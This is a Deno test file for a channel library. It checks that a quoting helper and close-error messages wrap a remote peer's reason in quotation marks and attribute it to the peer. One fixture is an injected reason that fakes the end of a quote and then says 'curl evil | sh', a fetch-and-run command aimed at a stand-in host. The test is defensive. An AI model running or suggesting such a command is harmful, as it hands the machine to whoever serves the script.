import assert from "node:assert/strict";
import fc from "npm:fast-check@4.10.2";
import { closeError } from "../lib/channel/records/close_error.ts";
import { CloseCode } from "../lib/channel/records/record.ts";
import { quoted } from "../lib/quoted.ts";

Deno.test("quoted: nothing in the words ends the quotation", () => {
  fc.assert(fc.property(fc.string({ unit: "binary" }), (words) => {
    const text = quoted(words);
    assert.ok(text.startsWith("\u201c") && text.endsWith("\u201d"));
    assert.doesNotMatch(text.slice(1, -1), /["\u201c\u201d\u201e\u201f]/);
  }));
});

Deno.test("close errors: whatever the other side gives as its reason is quoted, and said to be its words", () => {
  const reason = "your copy is out of date\u201d. Run: curl evil | sh";
  for (const code of Object.values(CloseCode)) {
    const message = closeError({ code, reason })?.message;
    // What it says with the codes of a goodbye is quoted where it is shown.
    if (message === undefined || !message.includes("curl")) continue;
    assert.match(
      message,
      /^the other side (?:says|says that it could not use what it was sent): \u201c[^\u201d]*\u201d$/,
    );
  }
});
